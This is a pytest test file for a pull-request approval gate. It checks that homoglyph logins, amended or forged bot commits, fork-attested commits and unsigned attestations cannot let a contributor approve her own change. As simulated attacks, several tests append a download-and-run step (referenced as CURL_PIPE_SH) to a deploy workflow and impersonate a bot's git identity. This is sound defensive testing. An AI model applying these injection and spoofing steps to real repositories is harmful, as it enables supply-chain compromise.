        "gate",
        "--forge",
        "local",
        "--pr",
        str(number),
        "--repo",
        str(scenario.path),
        "--base",
        "main",
        "--verify-key",
        str(_pub(scenario, tmp_path)),
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--record",
        str(record),
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "decision: require_approval" in done.stdout
    assert "none counts while the pull request has commits tied to no account" in done.stdout
    pr = json.loads(record.read_text())["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
    assert status(forge, pushed) == "pending"
    comment = forge.get(number).comments["gate"]
    assert f"**Contributors unknown:** commit(s) `{pushed[:12]}`" in comment


@pytest.mark.parametrize(
    "name",
    ["Olivia Smith", "\u043elivia"],  # her full name; a Cyrillic "o" in her login
    ids=["full-name", "look-alike"],
)
def test_a_name_that_is_no_ones_login_ties_a_local_commit_to_no_one(staged, tmp_path, name) -> None:
    scenario, forge = staged
    forge.set_collaborators(["alice", "bob", "olivia", "paula", "sam", "sue"])
    number = alices_deploy_pull(scenario, forge)
    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
    # Olivia pushes under a name that is not her login, then approves: that name must not
    # count as someone else who contributed.
    pushed = commit_as(
        scenario.repo,
        "alice-deploy",
        {".github/workflows/deploy.yml": deploy + CURL_PIPE_SH},
        name,
        "olivia@example.test",
    )
    forge.review(number, "olivia", "APPROVED")
    record = tmp_path / "record.json"
    done = _cli(
        "gate",
        "--pr",
        str(number),
        "--repo",
        str(scenario.path),
        "--base",
        "main",
        "--verify-key",
        str(_pub(scenario, tmp_path)),
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--record",
        str(record),
    )
    assert done.returncode == 1, done.stdout + done.stderr
    pr = json.loads(record.read_text())["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
    assert (
        f"**Contributors unknown:** commit(s) `{pushed[:12]}`" in forge.get(number).comments["gate"]
    )


def test_a_bot_pull_request_approved_by_a_reviewer_who_never_pushed_is_allowed(
    staged, tmp_path
) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    forge.review(number, "bob", "APPROVED")
    record = tmp_path / "record.json"
    done = _cli(
        "gate",
        "--pr",
        str(number),
        "--repo",
        str(scenario.path),
        "--base",
        "main",
        "--verify-key",
        str(_pub(scenario, tmp_path)),
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--record",
        str(record),
    )
    assert done.returncode == 0, done.stdout + done.stderr
    pr = json.loads(record.read_text())["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
    assert pr["last_push_approval_required"] is False


def test_a_bot_commit_needs_the_bots_attestation_not_only_its_name(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    pull = forge.pull_info(number)
    # The bot's commit re-pushed byte for byte on the same parent is still the bot's (its
    # attestation binds the content), whoever pushed it; the same identity on a commit that
    # changes anything else is a person nobody can name.
    again = bot_commit(scenario.repo, pull.head_sha, pull.base_sha, "2026-11-24T09:40:00Z")
    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", again)
    forge.review(number, "bob", "APPROVED", commit_id=again)
    run = gate(forge, scenario, number)
    assert run.record["context"]["pr"]["contributors_known"] is True
    assert run.decision.outcome == "allow"
    edited = bot_commit(scenario.repo, "main", again, "2026-11-24T09:41:00Z")
    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", edited)
    run = gate(forge, scenario, number)
    assert run.record["context"]["pr"]["contributors_known"] is False
    assert run.gathered is not None
    assert run.gathered.unidentified_commits == (edited,)


def test_the_bots_commit_amended_on_the_same_parent_is_no_longer_the_bots(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    pull = forge.pull_info(number)
    # Olivia amends the bot's commit: same parent, the bot's identity, its attestation still
    # signed, one more line in deploy.yml. The attestation no longer covers the commit.
    scenario.repo.git("checkout", "-q", pull.head_ref)
    deploy = scenario.path / ".github/workflows/deploy.yml"
    deploy.write_text(deploy.read_text() + CURL_PIPE_SH)
    scenario.repo.git("add", "-A")
    bot = {f"GIT_{who}_{part}": value for who in ("AUTHOR", "COMMITTER")
           for part, value in (("NAME", BOT_NAME), ("EMAIL", BOT_EMAIL))}  # fmt: skip
    subprocess.run(
        ["git", "commit", "-q", "--amend", "--no-edit"],
        cwd=scenario.path,
        env={**os.environ, **bot},
        check=True,
    )
    amended = scenario.repo.git("rev-parse", "HEAD")
    scenario.repo.git("checkout", "-q", "main")
    forge.review(number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    assert run.record["context"]["pr"]["contributors_known"] is False
    assert run.gathered is not None
    assert run.gathered.unidentified_commits == (amended,)
    assert run.decision.outcome != "allow"


def test_the_bots_change_committed_under_a_persons_name_is_that_persons(staged) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    pull = forge.pull_info(number)
    # Olivia commits the bot's very change (same tree, same parent, the attestation verifies)
    # under her own name: only the bot's identity and its attestation together make a bot
    # commit, so she pushed it and may not approve it.
    tree = scenario.repo.git("rev-parse", f"{pull.head_sha}^{{tree}}")
    olivia = {
        f"GIT_{who}_{part}": value
        for who in ("AUTHOR", "COMMITTER")
        for part, value in (("NAME", "olivia"), ("EMAIL", "olivia@example.test"))
    }
    recommitted = subprocess.run(
        ["git", "commit-tree", tree, "-p", pull.base_sha, "-m", "re-push"],
        cwd=scenario.path,
        env={**os.environ, **olivia},
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", recommitted)
    forge.review(number, "olivia", "APPROVED")
    run = gate(forge, scenario, number)
    pr = run.record["context"]["pr"]
    assert (pr["head_sha"], pr["contributors"], pr["contributors_known"]) == (
        recommitted,
        ["olivia"],
        True,
    )
    assert run.decision.outcome == "require_approval"


def test_a_bot_commit_attested_for_another_repository_is_no_bot_commit_here(
    staged, tmp_path
) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    head = forge.pull_info(number).head_sha
    # The bot's commit, byte for byte, in a fork: its attestation names the repository it was
    # made for, so here it proves nothing about who made the commit.
    scenario.repo.git("remote", "set-url", "origin", "https://github.com/mallory/fork.git")
    record = tmp_path / "record.json"
    done = _cli(
        "gate",
        "--pr",
        str(number),
        "--repo",
        str(scenario.path),
        "--base",
        "main",
        "--verify-key",
        str(_pub(scenario, tmp_path)),
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--record",
        str(record),
    )
    assert done.returncode == 1, done.stdout + done.stderr
    pr = json.loads(record.read_text())["context"]["pr"]
    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
    assert (
        f"**Contributors unknown:** commit(s) `{head[:12]}`" in forge.get(number).comments["gate"]
    )


def test_with_allow_unsigned_no_commit_is_the_bots(staged, bench, tmp_path, monkeypatch) -> None:
    scenario, forge = staged
    number = scenario.pulls["production"]
    pull = forge.pull_info(number)
    # Olivia, who owns deploy.yml, replaces the bot's commit with one of her own under the bot's
    # identity, its attestation signed by a key of hers, and approves it herself. With
    # --allow-unsigned no signature is checked, so nothing shows the bot made that commit.
    bundles = bench.bundle(KeySigner(ec.generate_private_key(ec.SECP256R1())), now=SIGNED)
    [deploy] = [path for rid, path in bundles.items() if "/ci-" not in rid]
    with monkeypatch.context() as bot:
        for variable in ("GIT_AUTHOR", "GIT_COMMITTER"):
            bot.setenv(f"{variable}_NAME", BOT_NAME)
            bot.setenv(f"{variable}_EMAIL", BOT_EMAIL)
        forged = bench.apply(deploy, on="main")
    scenario.repo.git("checkout", "-q", "main")
    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", forged)
    forge.review(number, "olivia", "APPROVED")
    record = tmp_path / "record.json"
    done = _cli(
        "gate",
        "--forge",
        "local",
        "--pr",
        str(number),
        "--repo",
        str(scenario.path),
        "--base",
        "main",
        "--allow-unsigned",
        "--now",
        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "--record",
        str(record),
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "none counts while the pull request has commits tied to no account" in done.stdout
    pr = json.loads(record.read_text())["context"]["pr"]
    assert (pr["head_sha"], pr["contributors_known"]) == (forged, False)
    assert status(forge, forged) == "pending"
